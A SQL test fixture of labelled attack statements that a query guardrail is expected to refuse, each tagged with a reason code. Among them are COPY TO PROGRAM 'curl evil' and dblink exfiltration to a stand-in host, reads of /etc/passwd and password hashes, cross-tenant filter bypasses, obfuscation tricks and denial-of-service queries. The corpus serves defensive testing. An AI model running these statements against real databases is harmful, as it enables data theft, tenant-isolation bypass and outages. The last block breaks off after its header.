-- Attack corpus: every statement here must be refused by guardrails.check(org_id='ORG_A').
-- Blocks: "-- class:", "-- title:", "-- expect: <reason code>", then the SQL up to the next block.

-- class: writes
-- title: delete from the view
-- expect: not_a_query
DELETE FROM pfa_merged

-- class: writes
-- title: update the view
-- expect: not_a_query
UPDATE pfa_merged SET monthly_rate = 0

-- class: writes
-- title: insert into the view
-- expect: not_a_query
INSERT INTO pfa_merged (id) VALUES ('x')

-- class: writes
-- title: insert select
-- expect: not_a_query
INSERT INTO pfa_merged SELECT * FROM pfa_merged

-- class: writes
-- title: writable CTE delete
-- expect: not_a_query
WITH gone AS (DELETE FROM pfa_merged RETURNING *) SELECT count(*) FROM gone

-- class: writes
-- title: writable CTE update
-- expect: not_a_query
WITH x AS (UPDATE pfa_merged SET area = 'x' RETURNING id) SELECT * FROM x

-- class: writes
-- title: writable CTE insert
-- expect: not_a_query
WITH x AS (INSERT INTO pfa_merged (id) VALUES ('1') RETURNING id) SELECT * FROM x

-- class: writes
-- title: truncate
-- expect: not_a_query
TRUNCATE pfa_merged

-- class: writes
-- title: drop view
-- expect: not_a_query
DROP VIEW nlq.pfa_merged

-- class: writes
-- title: create table as
-- expect: not_a_query
CREATE TABLE loot AS SELECT * FROM pfa_merged

-- class: writes
-- title: create temp table
-- expect: not_a_query
CREATE TEMP TABLE t (x int)

-- class: writes
-- title: alter role
-- expect: not_a_query
ALTER ROLE vanguard_reader SET statement_timeout = 0

-- class: writes
-- title: grant
-- expect: not_a_query
GRANT SELECT ON pfa_merged TO PUBLIC

-- class: writes
-- title: merge
-- expect: not_a_query
MERGE INTO pfa_merged t USING pfa_merged s ON t.id = s.id WHEN MATCHED THEN DELETE

-- class: writes
-- title: copy to program
-- expect: not_a_query
COPY (SELECT * FROM pfa_merged) TO PROGRAM 'curl evil'

-- class: writes
-- title: explain analyze delete
-- expect: not_a_query
EXPLAIN ANALYZE DELETE FROM pfa_merged

-- class: writes
-- title: explain select
-- expect: not_a_query
EXPLAIN SELECT * FROM pfa_merged

-- class: writes
-- title: set guc
-- expect: not_a_query
SET app.org_id = 'ORG_B'

-- class: writes
-- title: set local guc
-- expect: not_a_query
SET LOCAL app.org_id = 'ORG_B'

-- class: writes
-- title: reset role
-- expect: not_a_query
RESET ROLE

-- class: writes
-- title: set role
-- expect: not_a_query
SET ROLE vanguard_app

-- class: writes
-- title: begin read write
-- expect: not_a_query
BEGIN READ WRITE

-- class: writes
-- title: commit
-- expect: not_a_query
COMMIT

-- class: writes
-- title: lock table
-- expect: not_a_query
LOCK TABLE pfa_merged

-- class: writes
-- title: vacuum
-- expect: not_a_query
VACUUM

-- class: writes
-- title: do block
-- expect: not_a_query
DO $$ BEGIN PERFORM pg_sleep(10); END $$

-- class: writes
-- title: call procedure
-- expect: not_a_query
CALL something()

-- class: writes
-- title: listen parses as an alias
-- expect: not_a_query
LISTEN channel

-- class: writes
-- title: notify parses as an alias
-- expect: not_a_query
NOTIFY channel

-- class: writes
-- title: discard all
-- expect: not_a_query
DISCARD ALL

-- class: writes
-- title: savepoint
-- expect: not_a_query
SAVEPOINT s1

-- class: writes
-- title: close cursor
-- expect: not_a_query
CLOSE c

-- class: writes
-- title: prepare
-- expect: not_a_query
PREPARE p AS DELETE FROM pfa_merged

-- class: writes
-- title: values alone
-- expect: not_a_query
VALUES (1)

-- class: stacked
-- title: select then delete
-- expect: multiple_statements
SELECT * FROM pfa_merged; DELETE FROM pfa_merged

-- class: stacked
-- title: select then set local
-- expect: multiple_statements
SELECT 1; SET LOCAL app.org_id = 'ORG_B'; SELECT * FROM pfa_merged

-- class: stacked
-- title: two selects
-- expect: multiple_statements
SELECT count(*) FROM pfa_merged; SELECT count(*) FROM pfa_merged

-- class: stacked
-- title: statement after a comment
-- expect: multiple_statements
SELECT * FROM pfa_merged -- harmless
; DROP VIEW nlq.pfa_merged

-- class: stacked
-- title: statement hidden after block comment
-- expect: multiple_statements
SELECT 1 /* comment */; DELETE FROM pfa_merged

-- class: stacked
-- title: commit then select
-- expect: multiple_statements
COMMIT; SELECT * FROM pfa_merged

-- class: stacked
-- title: reset then select
-- expect: multiple_statements
SELECT 1; RESET ALL

-- class: stacked
-- title: empty
-- expect: parse_error
;

-- class: stacked
-- title: only a comment
-- expect: parse_error
-- nothing here

-- class: side_effects
-- title: set_config in select list
-- expect: forbidden_function
SELECT set_config('app.org_id', 'ORG_B', true)

-- class: side_effects
-- title: set_config in FROM
-- expect: function_in_from
SELECT * FROM pfa_merged, set_config('app.org_id', 'ORG_B', true) AS s

-- class: side_effects
-- title: set_config in a CTE
-- expect: forbidden_function
WITH s AS (SELECT set_config('app.org_id', 'ORG_B', false)) SELECT * FROM pfa_merged, s

-- class: side_effects
-- title: set_config in a scalar subquery
-- expect: forbidden_function
SELECT (SELECT set_config('app.org_id', 'ORG_B', true)), count(*) FROM pfa_merged

-- class: side_effects
-- title: set_config lateral
-- expect: forbidden_function
SELECT * FROM pfa_merged, LATERAL set_config('app.org_id', 'ORG_B', true) s

-- class: side_effects
-- title: set_config in where
-- expect: forbidden_function
SELECT * FROM pfa_merged WHERE set_config('app.org_id', 'ORG_B', true) IS NOT NULL

-- class: side_effects
-- title: current_setting
-- expect: forbidden_function
SELECT current_setting('app.org_id')

-- class: side_effects
-- title: pg_sleep
-- expect: forbidden_function
SELECT pg_sleep(10)

-- class: side_effects
-- title: pg_sleep_for
-- expect: forbidden_function
SELECT pg_sleep_for('10 seconds')

-- class: side_effects
-- title: pg_sleep_until
-- expect: forbidden_function
SELECT pg_sleep_until(now() + interval '1 minute')

-- class: side_effects
-- title: pg_sleep in where
-- expect: forbidden_function
SELECT * FROM pfa_merged WHERE pg_sleep(1) IS NULL

-- class: side_effects
-- title: pg_notify
-- expect: forbidden_function
SELECT pg_notify('ch', 'hello')

-- class: side_effects
-- title: advisory lock
-- expect: forbidden_function
SELECT pg_advisory_lock(42)

-- class: side_effects
-- title: try advisory lock
-- expect: forbidden_function
SELECT pg_try_advisory_lock(42)

-- class: side_effects
-- title: advisory xact lock
-- expect: forbidden_function
SELECT pg_advisory_xact_lock(42)

-- class: side_effects
-- title: cancel backend
-- expect: forbidden_function
SELECT pg_cancel_backend(1234)

-- class: side_effects
-- title: terminate backend
-- expect: forbidden_function
SELECT pg_terminate_backend(1234)

-- class: side_effects
-- title: txid_current
-- expect: forbidden_function
SELECT txid_current()

-- class: side_effects
-- title: pg_current_xact_id
-- expect: forbidden_function
SELECT pg_current_xact_id()

-- class: side_effects
-- title: nextval
-- expect: forbidden_function
SELECT nextval('vanguard.users_id_seq')

-- class: side_effects
-- title: setval
-- expect: forbidden_function
SELECT setval('vanguard.users_id_seq', 1)

-- class: side_effects
-- title: currval
-- expect: forbidden_function
SELECT currval('vanguard.users_id_seq')

-- class: side_effects
-- title: query_to_xml runs SQL text
-- expect: forbidden_function
SELECT query_to_xml('select * from vanguard.users', true, true, '')

-- class: side_effects
-- title: query_to_xml_and_xmlschema
-- expect: forbidden_function
SELECT query_to_xml_and_xmlschema('select 1', true, true, '')

-- class: side_effects
-- title: table_to_xml
-- expect: forbidden_function
SELECT table_to_xml('vanguard.pfa_mirror', true, true, '')

-- class: side_effects
-- title: ts_stat runs SQL text
-- expect: forbidden_function
SELECT * FROM pfa_merged WHERE id IN (SELECT word FROM ts_stat('select to_tsvector(area) from vanguard.pfa_mirror'))

-- class: side_effects
-- title: ts_rewrite runs SQL text
-- expect: forbidden_function
SELECT ts_rewrite('a'::tsquery, 'select ''a''::tsquery, ''b''::tsquery')

-- class: side_effects
-- title: set_config hidden in coalesce
-- expect: forbidden_function
SELECT coalesce(set_config('app.org_id', 'ORG_B', true), 'x')

-- class: side_effects
-- title: set_config inside case
-- expect: forbidden_function
SELECT CASE WHEN true THEN set_config('app.org_id', 'ORG_B', true) END

-- class: files_network
-- title: pg_read_file
-- expect: forbidden_function
SELECT pg_read_file('/etc/passwd')

-- class: files_network
-- title: pg_read_binary_file
-- expect: forbidden_function
SELECT pg_read_binary_file('/etc/passwd')

-- class: files_network
-- title: pg_ls_dir
-- expect: forbidden_function
SELECT pg_ls_dir('.')

-- class: files_network
-- title: pg_stat_file
-- expect: forbidden_function
SELECT pg_stat_file('postgresql.conf')

-- class: files_network
-- title: lo_import
-- expect: forbidden_function
SELECT lo_import('/etc/passwd')

-- class: files_network
-- title: lo_export
-- expect: forbidden_function
SELECT lo_export(1234, '/tmp/out')

-- class: files_network
-- title: lo_get
-- expect: forbidden_function
SELECT lo_get(1234)

-- class: files_network
-- title: lo_from_bytea
-- expect: forbidden_function
SELECT lo_from_bytea(0, 'x')

-- class: files_network
-- title: dblink
-- expect: forbidden_function
SELECT * FROM pfa_merged WHERE id IN (SELECT dblink('host=evil', 'select 1'))

-- class: files_network
-- title: dblink_exec
-- expect: forbidden_function
SELECT dblink_exec('host=evil', 'drop table x')

-- class: files_network
-- title: dblink in FROM
-- expect: function_in_from
SELECT * FROM dblink('host=evil', 'select 1') AS t(x int)

-- class: files_network
-- title: inet_server_addr fingerprint
-- expect: forbidden_function
SELECT inet_server_addr()

-- class: files_network
-- title: version fingerprint
-- expect: forbidden_function
SELECT version()

-- class: files_network
-- title: current_user
-- expect: forbidden_function
SELECT current_user

-- class: files_network
-- title: user keyword fingerprint
-- expect: forbidden_function
SELECT user

-- class: files_network
-- title: current_role keyword
-- expect: forbidden_function
SELECT current_role FROM pfa_merged

-- class: files_network
-- title: system_user keyword
-- expect: forbidden_function
SELECT system_user

-- class: files_network
-- title: user keyword in a predicate
-- expect: forbidden_function
SELECT id FROM pfa_merged WHERE id = user

-- class: files_network
-- title: current_time with parentheses
-- expect: forbidden_function
SELECT current_time

-- class: catalog
-- title: pg_class
-- expect: system_catalog
SELECT relname FROM pg_class

-- class: catalog
-- title: pg_catalog qualified
-- expect: system_catalog
SELECT * FROM pg_catalog.pg_stat_activity

-- class: catalog
-- title: pg_stat_activity unqualified
-- expect: system_catalog
SELECT query FROM pg_stat_activity

-- class: catalog
-- title: pg_settings
-- expect: system_catalog
SELECT * FROM pg_settings

-- class: catalog
-- title: pg_roles
-- expect: system_catalog
SELECT rolname FROM pg_roles

-- class: catalog
-- title: pg_policies
-- expect: system_catalog
SELECT * FROM pg_policies

-- class: catalog
-- title: pg_stats
-- expect: system_catalog
SELECT * FROM pg_stats WHERE tablename = 'pfa_mirror'

-- class: catalog
-- title: information_schema tables
-- expect: system_catalog
SELECT table_name FROM information_schema.tables

-- class: catalog
-- title: information_schema columns
-- expect: system_catalog
SELECT column_name FROM information_schema.columns

-- class: catalog
-- title: base table of the mirror
-- expect: forbidden_relation
SELECT * FROM vanguard.pfa_mirror

-- class: catalog
-- title: users table
-- expect: forbidden_relation
SELECT username, password_hash FROM vanguard.users

-- class: catalog
-- title: audit table unqualified
-- expect: forbidden_relation
SELECT * FROM nlq_audit

-- class: catalog
-- title: catalog in a subquery
-- expect: system_catalog
SELECT * FROM pfa_merged WHERE id IN (SELECT relname FROM pg_class)

-- class: catalog
-- title: catalog joined
-- expect: system_catalog
SELECT m.id FROM pfa_merged m JOIN pg_class c ON c.relname = m.id

-- class: catalog
-- title: pg_get_viewdef
-- expect: forbidden_function
SELECT pg_get_viewdef('nlq.pfa_merged')

-- class: catalog
-- title: regclass cast
-- expect: forbidden_cast
SELECT 'nlq.pfa_merged'::regclass

-- class: catalog
-- title: oid cast
-- expect: forbidden_cast
SELECT 1::oid

-- class: catalog
-- title: reltuples leak via catalog column
-- expect: system_catalog
SELECT reltuples FROM pg_catalog.pg_class WHERE relname = 'pfa_mirror'

-- class: catalog
-- title: pg_temp shadow schema
-- expect: system_catalog
SELECT * FROM pg_temp.pfa_merged

-- class: catalog
-- title: other schema lookalike
-- expect: forbidden_relation
SELECT * FROM evil.pfa_merged

-- class: catalog
-- title: public schema lookalike
-- expect: forbidden_relation
SELECT * FROM public.pfa_merged

-- class: catalog
-- title: quoted uppercase is another relation
-- expect: forbidden_relation
SELECT * FROM "PFA_MERGED"

-- class: catalog
-- title: three part name
-- expect: forbidden_relation
SELECT * FROM db.nlq.pfa_merged

-- class: catalog
-- title: pg_typeof fingerprint
-- expect: forbidden_function
SELECT pg_typeof(monthly_rate) FROM pfa_merged

-- class: catalog
-- title: composite type cast to catalog row
-- expect: forbidden_cast
SELECT NULL::pg_class

-- class: cross_org
-- title: explicit other organization
-- expect: cross_organization
SELECT * FROM pfa_merged WHERE organization_id = 'ORG_B'

-- class: cross_org
-- title: OR 1 = 1 bypass
-- expect: tautology
SELECT * FROM pfa_merged WHERE organization_id = 'ORG_A' OR 1 = 1

-- class: cross_org
-- title: OR true bypass
-- expect: tautology
SELECT * FROM pfa_merged WHERE category = 'Cranes' OR true

-- class: cross_org
-- title: OR string tautology
-- expect: tautology
SELECT * FROM pfa_merged WHERE id = 'x' OR 'a' = 'a'

-- class: cross_org
-- title: OR not false
-- expect: tautology
SELECT * FROM pfa_merged WHERE id = 'x' OR NOT false

-- class: cross_org
-- title: not equal to own organization
-- expect: cross_organization
SELECT * FROM pfa_merged WHERE organization_id <> 'ORG_A'

-- class: cross_org
-- title: IN with another organization
-- expect: cross_organization
SELECT * FROM pfa_merged WHERE organization_id IN ('ORG_A', 'ORG_B')

-- class: cross_org
-- title: LIKE wildcard organization
-- expect: cross_organization
SELECT * FROM pfa_merged WHERE organization_id LIKE '%'

-- class: cross_org
-- title: organization built from pieces
-- expect: cross_organization
SELECT * FROM pfa_merged WHERE organization_id = 'ORG_' || 'B'

-- class: cross_org
-- title: organization from concat function
-- expect: cross_organization
SELECT * FROM pfa_merged WHERE organization_id = concat('ORG', '_B')

-- class: cross_org
-- title: unicode escape organization
-- expect: unsupported_literal
SELECT * FROM pfa_merged WHERE organization_id = U&'ORG\005FB'

-- class: cross_org
-- title: escape string organization
-- expect: unsupported_literal
SELECT * FROM pfa_merged WHERE organization_id = E'ORG\x5FB'

-- class: cross_org
-- title: dollar quoted organization
-- expect: cross_organization
SELECT * FROM pfa_merged WHERE organization_id = $$ORG_B$$

-- class: cross_org
-- title: tagged dollar quote organization
-- expect: cross_organization
SELECT * FROM pfa_merged WHERE organization_id = $x$ORG_B$x$

-- class: cross_org
-- title: organization taken from data
-- expect: cross_organization
SELECT * FROM pfa_merged WHERE organization_id = (SELECT data->>'target' FROM pfa_merged LIMIT 1)

-- class: cross_org
-- title: organization from a subquery IN
-- expect: cross_organization
SELECT * FROM pfa_merged WHERE organization_id IN (SELECT area FROM pfa_merged)

-- class: cross_org
-- title: lower case comparison
-- expect: cross_organization
SELECT * FROM pfa_merged WHERE lower(organization_id) = 'org_b'

-- class: cross_org
-- title: scalar subquery in select list for another org
-- expect: cross_organization
SELECT (SELECT count(*) FROM pfa_merged WHERE organization_id = 'ORG_B') AS other

-- class: cross_org
-- title: union with another org
-- expect: cross_organization
SELECT id FROM pfa_merged UNION ALL SELECT id FROM pfa_merged WHERE organization_id = 'ORG_B'

-- class: cross_org
-- title: CTE for another org
-- expect: cross_organization
WITH other AS (SELECT * FROM pfa_merged WHERE organization_id = 'ORG_B') SELECT * FROM other

-- class: cross_org
-- title: lateral for another org
-- expect: cross_organization
SELECT a.id, b.id FROM pfa_merged a, LATERAL (SELECT id FROM pfa_merged WHERE organization_id = 'ORG_B') b

-- class: cross_org
-- title: exists for another org
-- expect: cross_organization
SELECT * FROM pfa_merged WHERE EXISTS (SELECT 1 FROM pfa_merged p WHERE p.organization_id = 'ORG_B')

-- class: cross_org
-- title: json organization key
-- expect: cross_organization
SELECT * FROM pfa_merged WHERE data->>'organization' = 'ORG_B'

-- class: cross_org
-- title: case on organization
-- expect: cross_organization
SELECT CASE WHEN organization_id = 'ORG_B' THEN 1 END FROM pfa_merged

-- class: cross_org
-- title: is distinct from own org
-- expect: cross_organization
SELECT * FROM pfa_merged WHERE organization_id IS DISTINCT FROM 'ORG_A'

-- class: cross_org
-- title: between organizations
-- expect: cross_organization
SELECT * FROM pfa_merged WHERE organization_id BETWEEN 'A' AND 'Z'

-- class: cross_org
-- title: greater than organization
-- expect: cross_organization
SELECT * FROM pfa_merged WHERE organization_id > ''

-- class: cross_org
-- title: coalesce on organization
-- expect: cross_organization
SELECT * FROM pfa_merged WHERE coalesce(organization_id, 'ORG_B') = 'ORG_B'

-- class: cross_org
-- title: having with other org
-- expect: cross_organization
SELECT organization_id, count(*) FROM pfa_merged GROUP BY organization_id HAVING organization_id = 'ORG_B'

-- class: cross_org
-- title: join on other org
-- expect: cross_organization
SELECT * FROM pfa_merged a JOIN pfa_merged b ON b.organization_id = 'ORG_B'

-- class: cross_org
-- title: window over other org
-- expect: cross_organization
SELECT sum(forecast_cost) OVER (PARTITION BY organization_id = 'ORG_B') FROM pfa_merged

-- class: cross_org
-- title: organization in ANY array
-- expect: cross_organization
SELECT * FROM pfa_merged WHERE organization_id = ANY(ARRAY['ORG_A', 'ORG_B'])

-- class: cross_org
-- title: OR bypass inside a CTE
-- expect: tautology
WITH x AS (SELECT * FROM pfa_merged WHERE id = 'a' OR 2 > 1) SELECT * FROM x

-- class: cross_org
-- title: OR bypass inside a subquery
-- expect: tautology
SELECT * FROM (SELECT * FROM pfa_merged WHERE 1 = 1 OR id = 'x') s

-- class: locking
-- title: for update
-- expect: locking_clause
SELECT * FROM pfa_merged FOR UPDATE

-- class: locking
-- title: for share
-- expect: locking_clause
SELECT * FROM pfa_merged FOR SHARE

-- class: locking
-- title: for no key update nowait
-- expect: locking_clause
SELECT * FROM pfa_merged FOR NO KEY UPDATE NOWAIT

-- class: locking
-- title: for key share skip locked
-- expect: locking_clause
SELECT * FROM pfa_merged FOR KEY SHARE SKIP LOCKED

-- class: locking
-- title: locking in a subquery
-- expect: locking_clause
SELECT * FROM (SELECT * FROM pfa_merged FOR UPDATE) s

-- class: locking
-- title: select into
-- expect: select_into
SELECT * INTO loot FROM pfa_merged

-- class: locking
-- title: select into temp
-- expect: select_into
SELECT id INTO TEMP loot FROM pfa_merged

-- class: resources
-- title: generate_series in select
-- expect: forbidden_function
SELECT generate_series(1, 100000000)

-- class: resources
-- title: generate_series in FROM
-- expect: function_in_from
SELECT * FROM generate_series(1, 100000000) g

-- class: resources
-- title: generate_series cross join
-- expect: function_in_from
SELECT count(*) FROM pfa_merged, generate_series(1, 1000000)

-- class: resources
-- title: recursive CTE
-- expect: recursive_cte
WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r) SELECT * FROM r

-- class: resources
-- title: recursive CTE over the view
-- expect: recursive_cte
WITH RECURSIVE r AS (SELECT id FROM pfa_merged UNION ALL SELECT id FROM r) SELECT count(*) FROM r

-- class: resources
-- title: repeat huge
-- expect: forbidden_function
SELECT repeat('x', 1000000000)

-- class: resources
-- title: lpad huge
-- expect: forbidden_function
SELECT lpad('x', 1000000000, 'y')

-- class: resources
-- title: rpad huge
-- expect: forbidden_function
SELECT rpad(id, 500000000) FROM pfa_merged

-- class: resources
-- title: pathological regex
-- expect: forbidden_function
SELECT * FROM pfa_merged WHERE id ~ '(a+)+$'

-- class: resources
-- title: regexp_replace
-- expect: forbidden_function
SELECT regexp_replace(id, '(a*)*b', 'x') FROM pfa_merged

-- class: resources
-- title: similar to
-- expect: forbidden_construct
SELECT * FROM pfa_merged WHERE id SIMILAR TO '(a|aa)*c'

-- class: resources
-- title: nine-way self join
-- expect: too_complex
SELECT count(*) FROM pfa_merged a, pfa_merged b, pfa_merged c, pfa_merged d, pfa_merged e, pfa_merged f, pfa_merged g, pfa_merged h, pfa_merged i

-- class: resources
-- title: json_agg packs everything in one row
-- expect: forbidden_function
SELECT json_agg(p) FROM pfa_merged p

-- class: resources
-- title: jsonb_agg of data
-- expect: forbidden_function
SELECT jsonb_agg(data) FROM pfa_merged

-- class: resources
-- title: array_agg of everything
-- expect: forbidden_function
SELECT array_agg(data) FROM pfa_merged

-- class: resources
-- title: unnest in FROM
-- expect: function_in_from
SELECT * FROM unnest(ARRAY[1, 2, 3]) AS u

-- class: resources
-- title: jsonb_each in FROM
-- expect: function_in_from
SELECT * FROM pfa_merged, jsonb_each(data) AS kv

-- class: resources
-- title: jsonb_array_elements set returning
-- expect: forbidden_function
SELECT jsonb_array_elements(data) FROM pfa_merged

-- class: resources
-- title: tablesample
-- expect: tablesample
SELECT * FROM pfa_merged TABLESAMPLE SYSTEM (50)

-- class: obfuscation
-- title: upper case function name
-- expect: forbidden_function
SELECT PG_SLEEP(5)

-- class: obfuscation
-- title: mixed case function name
-- expect: forbidden_function
SELECT Pg_SlEeP(5)

-- class: obfuscation
-- title: quoted function name
-- expect: forbidden_function
SELECT "pg_sleep"(5)

-- class: obfuscation
-- title: unicode escaped function name
-- expect: forbidden_function
SELECT U&"\0070g_sleep"(30)

-- class: obfuscation
-- title: schema qualified function
-- expect: forbidden_construct
SELECT pg_catalog.pg_sleep(5)

-- class: obfuscation
-- title: schema qualified set_config
-- expect: forbidden_construct
SELECT pg_catalog.set_config('app.org_id', 'ORG_B', true)

-- class: obfuscation
-- title: comment between name and parenthesis
-- expect: forbidden_function
SELECT pg_sleep/**/(5)

-- class: obfuscation
-- title: leading comment then delete
-- expect: not_a_query
/* SELECT */ DELETE FROM pfa_merged

-- class: obfuscation
-- title: line comment then update
-- expect: not_a_query
-- SELECT * FROM pfa_merged
UPDATE pfa_merged SET area = 'x'

-- class: obfuscation
-- title: nested comment
-- expect: not_a_query
/* outer /* inner */ still comment */ DELETE FROM pfa_merged

-- class: obfuscation
-- title: lowercase delete in CTE with comments
-- expect: not_a_query
with /*x*/ d as (delete from pfa_merged returning 1) select * from d

-- class: obfuscation
-- title: quoted lookalike view in schema
-- expect: forbidden_relation
SELECT * FROM nlq."PFA_MERGED"

-- class: obfuscation
-- title: quoted schema name other
-- expect: forbidden_relation
SELECT * FROM "Nlq".pfa_merged

-- class: obfuscation
-- title: dollar quoted sql in query_to_xml
-- expect: forbidden_function
SELECT query_to_xml($q$select * from vanguard.users$q$, true, true, '')

-- class: obfuscation
-- title: escape string in function argument
-- expect: unsupported_literal
SELECT length(E'\x41')

-- class: obfuscation
-- title: unicode string
-- expect: unsupported_literal
SELECT U&'\0041'

-- class: obfuscation
-- title: national string
-- expect: unsupported_literal
SELECT N'abc'

-- class: obfuscation
-- title: hex bit string
-- expect: unsupported_literal
SELECT X'1F'

-- class: obfuscation
-- title: composite field access
-- expect: forbidden_construct
SELECT (p).id FROM pfa_merged p

-- class: obfuscation
-- title: row constructor
-- expect: forbidden_function
SELECT ROW(1, 2)

-- class: obfuscation
-- title: bitwise operator trick
-- expect: forbidden_construct
SELECT 1 & 2

-- class: obfuscation
-- title: array subscript
-- expect: forbidden_construct
SELECT (ARRAY[1, 2])[1]

-- class: obfuscation
-- title: collate
-- expect: forbidden_construct
SELECT id COLLATE "C" FROM pfa_merged

-- class: obfuscation
-- title: session user keyword
-- expect: forbidden_function
SELECT session_user

-- class: obfuscation
-- title: only keyword
-- expect: forbidden_construct
SELECT * FROM ONLY pfa_merged

-- class: obfuscation
-- title: misspelled keywords parse as an alias
-- expect: not_a_query
SELEC * FORM pfa_merged

-- class: obfuscation
-- title: unterminated string
-- expect: parse_error
SELECT 'abc FROM pfa_merged

-- class: obfuscation
-- title: array cast
-- expect: forbidden_cast
SELECT id::text[] FROM pfa_merged

-- class: obfuscation
-- title: xml cast
-- expect: forbidden_cast
SELECT id::xml FROM pfa_merged

-- class: shadowing
-- title: CTE named like the view with constant org
-- expect: shadowed_view
WITH pfa_merged AS (SELECT 'ORG_A' AS organization_id, 'x' AS id) SELECT * FROM pfa_merged

-- class: shadowing
-- title: CTE named like the view in upper case
-- expect: shadowed_view
WITH PFA_MERGED AS (SELECT 1 AS id) SELECT * FROM pfa_merged

-- class: shadowing
-- title: CTE named like the view quoted
-- expect: shadowed_view
WITH "pfa_merged" AS (SELECT 1 AS id) SELECT * FROM pfa_merged

-- class: shadowing
-- title: derived table aliased as the view
-- expect: shadowed_view
SELECT * FROM (SELECT 'ORG_A' AS organization_id) AS pfa_merged

-- class: shadowing
-- title: values aliased as the view
-- expect: shadowed_view
SELECT * FROM (VALUES ('ORG_A', 'x')) AS pfa_merged(organization_id, id)

-- class: shadowing
-- title: values with organization column
-- expect: function_in_from
SELECT * FROM (VALUES ('ORG_B')) AS v(organization_id)

-- class: shadowing
-- title: CTE aliased as the view
-- expect: shadowed_view
WITH x AS (SELECT 1 AS id) SELECT * FROM x AS pfa_merged

-- class: shadowing
-- title: lateral aliased as the view
-- expect: shadowed_view
SELECT * FROM pfa_merged a, LATERAL (SELECT 1 AS id) AS pfa_merged

-- class: shadowing
-- title: undefined relation
-- expect: forbidden_relation
SELECT * FROM secrets

-- class: placeholders
-- title: dollar parameter
-- expect: placeholder
SELECT * FROM pfa_merged WHERE id = $1

-- class: placeholders
-- title: psycopg placeholder
-- expect: placeholder
SELECT * FROM pfa_merged WHERE id = %s

-- class: placeholders
-- title: named psycopg placeholder
-- expect: placeholder
SELECT * FROM pfa_merged WHERE id = %(id)s

-- class: placeholders
-- title: colon placeholder
-- expect: placeholder
SELECT * FROM pfa_merged WHERE id = :id

-- class: placeholders
-- title: question mark placeholder
-- expect: placeholder
SELECT * FROM pfa_merged WHERE id = ?

-- class: cte_scope
-- title: CTE inside a derived table used as a catalog name outside it
-- expect: system_catalog
SELECT * FROM (WITH pg_stat_user_tables AS (SELECT 1) SELECT 1) s, pg_stat_user_tables

-- class: cte_scope
-- title: CTE inside a derived table named like pg_class, pg_class read in the outer query
-- expect: system_catalog
SELECT relname, reltuples FROM (WITH pg_class AS (SELECT id FROM pfa_merged) SELECT * FROM pg_class) s, pg_class

-- class: cte_scope
-- title: CTE inside a WHERE subquery, name used in a sibling subquery
-- expect: system_catalog
SELECT id FROM pfa_merged WHERE id IN (WITH pg_stats AS (SELECT id FROM pfa_merged) SELECT id FROM pg_stats) AND EXISTS (SELECT 1 FROM pg_stats)

-- class: cte_scope
-- title: CTE inside a scalar subquery of the select list, name used in FROM
-- expect: system_catalog
SELECT (WITH pg_roles AS (SELECT 1 AS x) SELECT x FROM pg_roles) AS one, rolname FROM pg_roles

-- class: cte_scope
-- title: CTE in one UNION branch, name used in the other
-- expect: system_catalog
(WITH pg_settings AS (SELECT id AS name FROM pfa_merged) SELECT name FROM pg_settings) UNION ALL SELECT name FROM pg_settings

-- class: cte_scope
-- title: CTE referring to a sibling defined after it
-- expect: system_catalog
WITH a AS (SELECT * FROM pg_stat_activity), pg_stat_activity AS (SELECT id FROM pfa_merged) SELECT * FROM a

-- class: cte_scope
-- title: CTE referring to itself without RECURSIVE
-- expect: forbidden_relation
WITH secrets AS (SELECT * FROM secrets) SELECT * FROM secrets

-- class: cte_scope
-- title: nested WITH inside a CTE, inner name used by the outer query
-- expect: system_catalog
WITH outer_cte AS (WITH pg_proc AS (SELECT id FROM pfa_merged) SELECT * FROM pg_proc) SELECT * FROM outer_cte, pg_proc

-- class: cte_scope
-- title: CTE inside a LATERAL subquery, name used in the outer FROM
-- expect: system_catalog
SELECT * FROM pfa_merged p CROSS JOIN LATERAL (WITH pg_rewrite AS (SELECT p.id) SELECT * FROM pg_rewrite) l, pg_rewrite

-- class: cte_scope
-- title: CTE inside an EXISTS, a real table of that name joined outside
-- expect: forbidden_relation
SELECT p.id FROM pfa_merged p JOIN pfa_mirror m ON m.id = p.id WHERE EXISTS (WITH pfa_mirror AS (SELECT 1) SELECT 1 FROM pfa_mirror)

-- class: attribute_notation
-- title: alias.json_agg is json_agg of the whole row
-- expect: unknown_column
SELECT p.json_agg FROM pfa_merged p

-- class: attribute_notation
-- title: alias.row_to_json
-- expect: unknown_column
SELECT p.row_to_json FROM pfa_merged p LIMIT 1

-- class: attribute_notation
-- title: table name.to_jsonb without an alias
-- expect: unknown_column
SELECT pfa_merged.to_jsonb FROM pfa_merged

-- class: attribute_notation
-- title: alias.hash_record in a WHERE clause
-- expect: unknown_column
SELECT id FROM pfa_merged t WHERE t.hash_record > 0

-- class: attribute_notation
-- title: CTE alias.json_agg on a CTE row
-- expect: unknown_column
WITH c AS (SELECT id, area FROM pfa_merged) SELECT c.json_agg FROM c

-- class: attribute_notation
-- title: derived table alias.row_to_json
-- expect: unknown_column
SELECT s.row_to_json FROM (SELECT id FROM pfa_merged) s

-- class: attribute_notation
-- title: a CTE column that only the view has, qualified by the CTE
-- expect: unknown_column
WITH c AS (SELECT id FROM pfa_merged) SELECT c.data FROM c

-- class: attribute_notation
-- title: qualified by an alias that is not in the query
-- expect: unknown_column
SELECT x.id FROM pfa_merged p

-- class: attribute_notation
-- title: the whole row as a value
-- expect: unknown_column
SELECT p FROM pfa_merged p

-- class: attribute_notation
-- title: the whole row cast to text
-- expect: unknown_column
SELECT CAST(p AS TEXT) FROM pfa_merged p

-- class: attribute_notation
-- title: the whole row inside an aggregate
-- expect: unknown_column
SELECT count(DISTINCT pfa_merged) FROM pfa_merged

-- class: attribute_notation
-- title: quoted attribute name that is a function
-- expect: unknown_column
SELECT p."json_agg" FROM pfa_merged p

-- class: attribute_notation
-- title: attribute notation through a correlated subquery
-- expect: unknown_column
SELECT id, (SELECT q.to_json FROM pfa_merged q WHERE q.id = p.id) FROM pfa_merged p

-- class: growth
-- title: nested replace bomb with a column as the replacement
-- expect: unbounded_growth
SELECT length(replace(replace(replace(data::text, 'a', data::text), 'a', data::text), 'a', data::text)) FROM pfa_merged

-- class: growth
-- title: replace with a growing replacement built by concatenation
-- expect: unbounded_growth
SELECT replace(class, 'a', class || class) FROM pfa_merged

-- class: growth
-- title: replace with a very long literal replacement
-- expect: unbounded_growth
